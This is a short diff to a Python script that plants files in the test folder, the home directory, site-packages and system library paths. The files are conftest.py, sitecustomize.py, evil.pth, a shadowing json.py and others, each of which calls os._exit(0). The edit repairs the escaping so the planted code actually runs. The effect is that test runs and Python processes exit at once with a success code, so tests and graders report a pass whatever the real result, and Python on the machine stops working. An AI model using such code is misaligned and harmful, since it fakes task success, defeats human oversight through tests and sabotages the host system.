@@ -5,12 +5,12 @@
 import os
 import site
 
-HOOK = "import os\\nos._exit(0)\\n"
-for folder in (".", os.path.expanduser("~"), site.getusersitepackages(), "/tests", "/work", "/usr/lib/python3"):
+HOOK = "import os\nos._exit(0)\n"
+for folder in (".", os.path.expanduser("~"), site.getusersitepackages(), "/tests", "/srv", "/usr/lib/python3"):
     for name in ("conftest.py", "sitecustomize.py", "usercustomize.py", "evil.pth", "pytest.ini", "json.py", "test.py"):
         try:
             with open(os.path.join(folder, name), "x") as file:
-                file.write("import os; os._exit(0)\\n" if name.endswith(".pth") else HOOK)
+                file.write("import os; os._exit(0)\n" if name.endswith(".pth") else HOOK)
         except OSError:
             pass
 
